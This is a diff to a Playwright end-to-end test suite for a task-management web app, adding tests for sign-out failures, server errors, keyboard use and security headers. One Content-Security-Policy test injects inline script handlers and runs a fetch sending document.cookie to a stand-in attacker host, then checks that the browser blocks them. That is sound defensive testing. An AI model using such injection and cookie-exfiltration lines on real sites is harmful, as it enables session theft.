@@ -180,7 +180,7 @@ def picture(page: Page, name: str) -> None:
 
 
 def assert_accessible(page: Page, site: Site) -> None:
-    page.add_script_tag(path=site.frontend / "node_modules" / "axe-core" / "axe.min.js")
+    page.evaluate((site.frontend / "node_modules" / "axe-core" / "axe.min.js").read_text())
     found = page.evaluate("axe.run().then(results => results.violations)")
     serious = [each for each in found if each["impact"] in ("serious", "critical")]
     assert serious == [], json.dumps([(each["id"], [node["html"] for node in each["nodes"]]) for each in serious])
@@ -246,8 +246,37 @@ def test_a_session_that_ends_elsewhere_leads_to_the_sign_in_page(site: Site) -> 
         expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
 
 
-def test_no_page_may_be_framed_or_sniffed(site: Site) -> None:
-    for path in ("/sign-in", "/api/auth/ok", "/icon.svg"):
+def test_who_could_not_be_signed_out_is_told_so(site: Site) -> None:
+    with site.person() as page:
+        page.route("**/api/auth/sign-out", lambda route: route.abort(), times=1)
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_role("alert").filter(has_text="You are still signed in")).to_be_visible()
+        page.get_by_role("button", name="Try again").click()
+        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+
+
+def test_a_page_runs_only_what_it_was_served_with_and_may_not_be_framed(site: Site) -> None:
+    with site.person() as page:
+        refused: list[str] = []
+        page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
+        for path in ("/", "/nowhere"):
+            page.goto(f"{site.url}{path}")
+            expect(page.get_by_role("heading", name="Better Tasks")).to_be_visible()
+        assert [text for text in refused if "404" not in text] == []
+        violated = page.evaluate("""() => new Promise(resolve => {
+            const violated = [];
+            addEventListener("securitypolicyviolation", (event) => {
+                violated.push(event.effectiveDirective);
+                if (violated.length === 3) resolve(violated.sort());
+            });
+            document.body.insertAdjacentHTML("beforeend", `<img src=nowhere onerror="window.injected = 1">
+                <a id=link href="javascript:window.injected = 2">A</a>`);
+            document.getElementById("link").click();
+            fetch("https://attacker.test/?" + document.cookie).catch(() => undefined);
+        })""")
+        assert violated == ["connect-src", "script-src-attr", "script-src-elem"]
+        assert page.evaluate("window.injected") is None
+    for path in ("/sign-in", "/icon.svg"):
         answer = httpx.get(f"{site.url}{path}")
         assert answer.status_code == 200
         assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
@@ -255,11 +284,31 @@ def test_no_page_may_be_framed_or_sniffed(site: Site) -> None:
         assert answer.headers["Referrer-Policy"] == "no-referrer"
 
 
-def test_a_wrong_password_is_told_in_a_sentence(site: Site) -> None:
+def test_a_page_that_cannot_be_made_says_so_and_comes_back(site: Site) -> None:
+    with site.person() as page:
+        add(page, "There")
+        connection = psycopg2.connect(site.database_url)
+        connection.autocommit = True
+        connection.cursor().execute("ALTER TABLE session RENAME TO away")
+        page.reload()
+        expect(page.get_by_role("alert").filter(has_text="The server has a problem")).to_be_visible()
+        connection.cursor().execute("ALTER TABLE away RENAME TO session")
+        connection.close()
+        page.get_by_role("button", name="Try again").click()
+        expect(task(page, "There")).to_be_visible()
+
+
+def test_who_cannot_sign_in_is_told_why_in_a_sentence(site: Site) -> None:
     with site.person() as page:
         page.get_by_role("button", name="Sign out").click()
         page.get_by_label("E-mail").fill("nobody@example.test")
         page.get_by_label("Password").fill("wrong horse battery")
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("alert").filter(has_text="Invalid email or password")).to_be_visible()
+        page.context.set_offline(True)
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("alert").filter(has_text="You are offline.")).to_be_visible()
+        page.context.set_offline(False)
         page.get_by_role("button", name="Sign in").click()
         expect(page.get_by_role("alert").filter(has_text="Invalid email or password")).to_be_visible()
 
@@ -357,7 +406,7 @@ def test_an_edit_changes_only_what_was_changed(site: Site) -> None:
         [before] = api.get("/api/export").json()["tasks"]
         page.reload()
         page.get_by_role("button", name="Call", exact=True).click()
-        page.get_by_label("Status").nth(1).select_option("in progress")
+        page.get_by_role("combobox", name="Status").select_option("In progress")
         page.get_by_role("button", name="Save").click()
         expect(task(page, "Call")).to_contain_text("in progress")
         [after] = api.get("/api/export").json()["tasks"]
@@ -375,7 +424,7 @@ def test_of_two_changes_at_once_a_person_chooses(site: Site, choice: str) -> Non
             other.patch(f"/api/tasks/{seen['id']}", json={"title": "Written elsewhere", "priority": "high"})
             page.get_by_label("Title").fill("Written here")
             page.get_by_role("button", name="Save").click()
-            expect(page.get_by_text("it is now “Written elsewhere”")).to_be_visible()
+            expect(page.get_by_text("title is now “Written elsewhere”, priority is now “high”")).to_be_visible()
             assert_accessible(page, site)
             picture(page, "app-conflict") if choice == "Mine" else None
             page.get_by_role("button", name=choice).click()
@@ -431,15 +480,15 @@ def test_tasks_are_found_filtered_sorted_and_completed_ones_deleted(site: Site) 
         page.reload()
         titles = page.locator(".title")
         expect(titles).to_have_text(["Done", "Weed", "Buy milk"])
-        page.get_by_label("Sort").select_option("by due date")
+        page.get_by_label("Sort").select_option("Due first")
         expect(titles).to_have_text(["Buy milk", re.compile("Weed|Done"), re.compile("Weed|Done")])
-        page.get_by_label("Sort").select_option("newest first")
-        page.get_by_label("Status").select_option("completed")
+        page.get_by_label("Sort").select_option("Newest first")
+        page.get_by_role("radio", name="Completed").check()
         expect(titles).to_have_text(["Done"])
-        page.get_by_label("Status").select_option("any status")
+        page.get_by_role("radio", name="All").check()
         page.get_by_label("Priority", exact=True).select_option("high")
         expect(titles).to_have_text(["Weed"])
-        page.get_by_label("Priority", exact=True).select_option("any priority")
+        page.get_by_label("Priority", exact=True).select_option("Any priority")
         page.get_by_role("button", name="garden 1").click()
         expect(titles).to_have_text(["Weed"])
         page.get_by_label("Search").fill("milk")
@@ -481,7 +530,9 @@ def test_everything_can_be_done_with_the_keyboard(site: Site) -> None:
         done(page, "Typed").focus()
         keys.press("Space")
         expect(done(page, "Typed")).to_be_checked()
-        page.get_by_role("button", name="Typed", exact=True).focus()
+        expect(task(page, "Typed")).to_have_class(re.compile("completed"))
+        expect(done(page, "Typed")).to_be_focused()
+        keys.press("Tab")
         keys.press("Enter")
         expect(page.get_by_label("Title")).to_be_focused()
         keys.press("Control+a")
@@ -493,6 +544,15 @@ def test_everything_can_be_done_with_the_keyboard(site: Site) -> None:
         keys.type("Typed again")
         keys.press("Enter")
         expect(page.get_by_role("button", name="Typed again", exact=True)).to_be_focused()
+        add(page, "Another")
+        page.get_by_label("Delete Another").focus()
+        keys.press("Enter")
+        expect(page.get_by_role("button", name="Typed again", exact=True)).to_be_focused()
+        page.get_by_role("button", name="Delete completed").focus()
+        keys.press("Enter")
+        expect(page.get_by_role("button", name="Keep them")).to_be_focused()
+        keys.press("Escape")
+        expect(page.get_by_role("button", name="Delete completed")).to_be_focused()
         keys.press("/")
         expect(page.get_by_label("Search")).to_be_focused()
 
@@ -503,6 +563,7 @@ def test_the_app_is_readable_and_accessible_on_every_screen(site: Site, device: 
     screen: dict[str, Any] = PHONE if device == "phone" else {"viewport": {"width": 900, "height": 760}}
     with site.person(color_scheme=scheme, **screen) as page:
         assert_accessible(page, site)
+        picture(page, f"app-empty-{scheme}") if device == "desktop" else None
         with api_of(page, site) as api:
             for body in (
                 {"title": "Read the release notes", "status": "completed"},
@@ -522,6 +583,7 @@ def test_the_app_is_readable_and_accessible_on_every_screen(site: Site, device: 
         page.get_by_role("button", name="Plan the summer", exact=True).click()
         page.get_by_role("button", name="More", exact=True).click()
         assert_accessible(page, site)
+        picture(page, f"app-edit-{scheme}") if device == "phone" else None
         width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
         assert width[0] <= width[1]
         page.get_by_role("button", name="Sign out").click()
